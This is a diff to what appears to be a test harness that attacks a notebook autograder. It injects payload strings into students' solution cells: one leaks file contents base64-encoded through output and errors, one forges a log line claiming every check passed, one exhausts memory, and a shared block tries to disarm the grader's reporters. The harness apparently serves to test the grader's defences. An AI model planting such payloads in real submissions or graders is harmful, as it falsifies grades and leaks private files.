@@ -17,6 +17,7 @@ import copy
 from typing import Any
 
 MARKER = "TFX-EXFILTRATED"  # what leak attacks try to get into anything returned
+_MARKER_CODE = "'-'.join(['TFX', 'EXFILTRATED'])"  # made at run time: not in the source
 
 # Shared by every payload: walk a chain of frames and try to disarm the grader's reporters.
 _DISARM = '''
@@ -202,13 +203,14 @@ PAYLOADS: dict[str, str] = {
         "_blob = ''\nfor _p in _found[:200]:\n"
         "    try:\n        _blob += open(_p, errors='replace').read(2000)\n"
         "    except OSError:\n        pass\n"
-        f"_text = '{MARKER}' + base64.b64encode(_blob.encode()).decode()[:5000]\n"
+        f"_text = {_MARKER_CODE} + base64.b64encode(_blob.encode()).decode()[:5000]\n"
         "print(_text)\nsys.stderr.write('[AutogradeApp | ERROR] ' + _text + '\\n')\n"
         "raise RuntimeError(_text)"
     ),
     "fake_log": (
         "import os\nfor _fd in (1, 2):\n"
-        f"    os.write(_fd, b'\\n[AutogradeApp | ERROR] {MARKER} every check passed 22/22\\n')"
+        "    os.write(_fd, ('\\n[AutogradeApp | ERROR] ' + "
+        f"{_MARKER_CODE} + ' every check passed 22/22\\n').encode())"
     ),
     "memory": "_hog = bytearray(6 * 2**30)",
     "processes": (
@@ -363,17 +365,21 @@ def _attacked(base: Any, payload: str, result: str, tasks: list[str], reraise: b
         tasks=tasks, payload=_indent(payload, 8), result=result, reraise=reraise
     )
     notebook = copy.deepcopy(base)
+    first = True
     for cell in notebook.cells:
         meta = cell.metadata.get("nbgrader", {})
         if cell.cell_type == "code" and meta.get("solution") and not meta.get("grade"):
-            cell.source = f"{prelude}\n{cell.source}\n{_WRAP_ALL}"
+            # The attack is defined once, in the first solution cell (a loop defined anew in
+            # every cell would cost a full cell timeout each); every cell wraps what it defines.
+            cell.source = f"{prelude if first else ''}\n{cell.source}\n{_WRAP_ALL}"
+            first = False
     return notebook
 
 
 def attack_notebook(base: Any, attack: str, tasks: list[str]) -> Any:
     """`base` (a release or a submission) with `attack` in every solution cell.
 
-    Each solution cell first defines the attack, then its own code, then wraps every function
+    The first solution cell defines the attack; every solution cell then wraps each function
     and method the notebook has defined so far, so the payload runs whenever a scenario calls
     the student's code.
     """
